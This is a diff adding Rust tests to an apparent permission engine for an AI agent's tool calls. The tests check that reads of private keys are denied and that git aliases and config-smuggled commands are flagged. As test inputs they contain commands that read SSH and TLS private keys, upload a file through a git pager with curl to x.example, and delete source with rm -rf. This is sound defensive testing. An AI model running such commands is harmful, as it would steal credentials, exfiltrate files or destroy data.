@@ -119,6 +119,44 @@ fn operators_add_sensitive_paths() {
 }
 
 #[test]
+fn public_keys_certificates_and_known_hosts_reads_are_not_secrets() {
+    let w = engine(ALLOW_ALL);
+    for command in [
+        "cat ~/.ssh/id_rsa.pub",
+        "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
+        "ssh-keygen -F github.com -f ~/.ssh/known_hosts",
+        "openssl x509 -in /etc/letsencrypt/live/x/fullchain.pem -noout -text",
+    ] {
+        let e = judge(&w, "bash", cmd(command));
+        assert_eq!(e.verdict, Verdict::Allow, "{command}: {e:?}");
+    }
+    let e = judge(&w, "read_file", json!({"path": "~/.ssh/id_rsa.pub"}));
+    assert_eq!(e.verdict, Verdict::Allow, "{e:?}");
+}
+
+#[test]
+fn private_keys_and_writes_to_known_hosts_stay_denied() {
+    let w = engine(ALLOW_ALL);
+    for command in [
+        "cat ~/.ssh/id_rsa",
+        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
+        "cp evil ~/.ssh/known_hosts",
+        "cat /etc/letsencrypt/live/x/privkey.pem",
+        "cat ~/.ssh/authorized_keys",
+    ] {
+        let e = judge(&w, "bash", cmd(command));
+        assert_eq!(e.verdict, Verdict::Deny, "{command}: {e:?}");
+        assert_eq!(first_code(&e), "perm.sensitive_path", "{command}");
+    }
+    let e = judge(
+        &w,
+        "write_file",
+        json!({"path": "~/.ssh/known_hosts", "content": "x"}),
+    );
+    assert_eq!(e.verdict, Verdict::Deny);
+}
+
+#[test]
 fn read_only_mode_denies_every_tool_not_registered_read_only() {
     let w = engine("  mode: read_only\n  allow: [\"Bash(*)\", Edit]\n");
     let write = judge(&w, "write_file", json!({"path": "a.txt", "content": "x"}));
@@ -207,6 +245,47 @@ fn spacing_and_git_global_options_do_not_dodge_a_deny_rule() {
             "{command}"
         );
     }
+}
+
+#[test]
+fn a_git_alias_set_on_the_command_line_is_judged_as_what_it_runs() {
+    let w =
+        engine("  mode: full_auto\n  allow: [\"Bash(git *)\"]\n  ask: [\"Bash(git push *)\"]\n");
+    for command in [
+        "git -c alias.p=push p origin main",
+        "git -c alias.a=b -c alias.b=push a",
+        "git --config-env=alias.p=P p",
+        "git -c 'alias.p=!git push' p origin main",
+    ] {
+        let e = judge(&w, "bash", cmd(command));
+        assert_eq!(e.verdict, Verdict::Ask, "{command}: {e:?}");
+    }
+    assert_eq!(
+        judge(&w, "bash", cmd("git -c alias.s=status s")).verdict,
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn what_git_runs_through_its_configuration_must_be_allowed_too() {
+    let w = engine("  mode: default\n  allow: [\"Bash(git *)\"]\n");
+    assert_eq!(judge(&w, "bash", cmd("git log")).verdict, Verdict::Allow);
+    for command in [
+        "git -c core.pager='curl -T notes.txt x.example' log",
+        "GIT_SSH_COMMAND='sh -c id' git fetch",
+        "git -c core.hooksPath=/tmp/h commit -m x",
+        "git config core.editor 'rm -rf src'",
+    ] {
+        let e = judge(&w, "bash", cmd(command));
+        assert_eq!(e.verdict, Verdict::Ask, "{command}: {e:?}");
+    }
+}
+
+#[test]
+fn the_bracket_test_is_the_test_builtin_to_a_rule() {
+    let w = engine("  mode: default\n  allow: [\"Bash(test *)\", \"Bash(mkdir *)\"]\n");
+    let e = judge(&w, "bash", cmd("[ -d build ] || mkdir build"));
+    assert_eq!(e.verdict, Verdict::Allow, "{e:?}");
 }
 
 #[test]
